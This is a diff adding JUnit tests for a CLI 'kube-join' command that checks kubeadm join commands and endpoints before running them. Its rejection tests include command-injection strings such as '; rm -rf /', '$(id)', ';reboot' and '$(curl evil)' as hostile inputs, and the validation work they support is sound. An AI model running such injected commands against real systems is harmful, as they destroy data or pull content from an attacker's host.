@@ -1,0 +1,160 @@
+package dev.kldload.cli.kube;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import dev.kldload.cli.CliHarness;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.util.List;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.DisplayName;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
+
+class KubeJoinCommandTest {
+  static final String TOKEN = "abcdef.0123456789abcdef";
+  static final String HASH = "sha256:" + "0123456789abcdef".repeat(4);
+  static final String GOOD =
+      "kubeadm join 10.251.0.1:6443 --token "
+          + TOKEN
+          + " --discovery-token-ca-cert-hash "
+          + HASH
+          + "\n";
+
+  @TempDir Path dir;
+  RecordingCli cli;
+  Path joinFile;
+
+  @BeforeEach
+  void node() throws Exception {
+    Files.createDirectories(dir.resolve("node"));
+    joinFile = dir.resolve("join-command");
+    cli =
+        new RecordingCli()
+            .env("KLDLOAD_NODE_ROOT", dir.resolve("node").toString())
+            .env("KLDLOAD_STATE_DIR", dir.resolve("state").toString())
+            .env("KLDLOAD_RUN_DIR", dir.resolve("run").toString());
+  }
+
+  CliHarness.Result join(String joinCommand, String... args) throws Exception {
+    Files.writeString(joinFile, joinCommand);
+    List<String> all =
+        new java.util.ArrayList<>(List.of("kube-join", "--join-command", joinFile.toString()));
+    all.addAll(List.of(args));
+    return cli.exec(all.toArray(String[]::new));
+  }
+
+  @Test
+  @DisplayName("a valid join runs kubeadm join with the parsed words, and never prints the token")
+  void joins() throws Exception {
+    CliHarness.Result r = join(GOOD, "10.251.0.1");
+    assertThat(r.exit()).as(r.toString()).isZero();
+    assertThat(cli.ran).hasSize(1);
+    assertThat(cli.ran.get(0).argv())
+        .containsExactly(
+            "kubeadm",
+            "join",
+            "10.251.0.1:6443",
+            "--token",
+            TOKEN,
+            "--discovery-token-ca-cert-hash",
+            HASH);
+    assertThat(r.out() + r.err()).doesNotContain(TOKEN);
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "10.251.0.1;reboot",
+        "$(id)",
+        "-oProxy",
+        "10.251.0.1:99999",
+        "a b",
+        "[zz::1]:6443"
+      })
+  @DisplayName("a bad endpoint exits 2 and runs nothing")
+  void badEndpoint(String endpoint) throws Exception {
+    CliHarness.Result r = join(GOOD, endpoint);
+    assertThat(r.exit()).as(r.toString()).isEqualTo(2);
+    assertThat(r.err()).startsWith("error: ");
+    assertThat(cli.ran).isEmpty();
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "kubeadm join 10.251.0.1:6443 --token abcdef.0123456789abcdef --discovery-token-ca-cert-hash sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef ; rm -rf /",
+        "kubeadm join 10.251.0.1:6443 --token abcdef.0123456789abcdef --discovery-token-ca-cert-hash sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef --ignore-preflight-errors=all",
+        "kubeadm join 10.251.0.1:6443 --token ABCDEF.0123456789abcdef --discovery-token-ca-cert-hash sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
+        "kubeadm join 10.251.0.1:6443 --token abcdef.0123 --discovery-token-ca-cert-hash sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
+        "kubeadm join 10.251.0.1:6443 --token abcdef.0123456789abcdef --discovery-token-ca-cert-hash md5:0123",
+        "kubeadm join 10.251.0.1 --token abcdef.0123456789abcdef --discovery-token-ca-cert-hash sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
+        "sudo join 10.251.0.1:6443 --token abcdef.0123456789abcdef --discovery-token-ca-cert-hash sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
+        "kubeadm join $(curl evil):6443 --token abcdef.0123456789abcdef --discovery-token-ca-cert-hash sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
+        ""
+      })
+  @DisplayName(
+      "a join command with an extra word, a wrong token shape or another form exits 2, runs nothing")
+  void badJoinCommand(String command) throws Exception {
+    CliHarness.Result r = join(command + "\n", "10.251.0.1:6443");
+    assertThat(r.exit()).as(r.toString()).isEqualTo(2);
+    assertThat(cli.ran).isEmpty();
+  }
+
+  @Test
+  @DisplayName("a join command for another endpoint exits 2; a node already in a cluster exits 5")
+  void mismatchAndAlreadyJoined() throws Exception {
+    CliHarness.Result other = join(GOOD, "10.251.0.9");
+    assertThat(other.exit()).as(other.toString()).isEqualTo(2);
+    assertThat(other.err())
+        .contains("the join command is for 10.251.0.1:6443, not 10.251.0.9:6443");
+    Files.createDirectories(dir.resolve("node/etc/kubernetes"));
+    Files.writeString(dir.resolve("node/etc/kubernetes/kubelet.conf"), "x");
+    CliHarness.Result joined = join(GOOD, "10.251.0.1");
+    assertThat(joined.exit()).as(joined.toString()).isEqualTo(5);
+    assertThat(joined.err()).contains("already belongs to a cluster").contains("kube-reset");
+    assertThat(cli.ran).isEmpty();
+  }
+
+  @Test
+  @DisplayName("--control-plane needs a 64-hex certificate key and adds the control-plane flags")
+  void controlPlane() throws Exception {
+    Path key = dir.resolve("certificate-key");
+    Files.writeString(key, "not-hex\n");
+    CliHarness.Result bad =
+        join(
+            GOOD,
+            "--control-plane",
+            "--certificate-key-file",
+            key.toString(),
+            "--advertise-address",
+            "10.251.0.2",
+            "10.251.0.1");
+    assertThat(bad.exit()).as(bad.toString()).isEqualTo(2);
+    assertThat(cli.ran).isEmpty();
+    Files.writeString(key, "ab".repeat(32) + "\n");
+    // what kubeadm join leaves on a control plane (the recording runner runs nothing)
+    Files.createDirectories(dir.resolve("node/etc/kubernetes"));
+    Files.writeString(dir.resolve("node/etc/kubernetes/admin.conf"), "apiVersion: v1\n");
+    CliHarness.Result ok =
+        join(
+            GOOD,
+            "--control-plane",
+            "--certificate-key-file",
+            key.toString(),
+            "--advertise-address",
+            "10.251.0.2",
+            "10.251.0.1");
+    assertThat(ok.exit()).as(ok.toString()).isZero();
+    assertThat(cli.ran.get(0).argv())
+        .endsWith(
+            "--control-plane",
+            "--certificate-key",
+            "ab".repeat(32),
+            "--apiserver-advertise-address",
+            "10.251.0.2");
+    assertThat(dir.resolve("node/root/.kube/config")).hasContent("apiVersion: v1");
+  }
+}
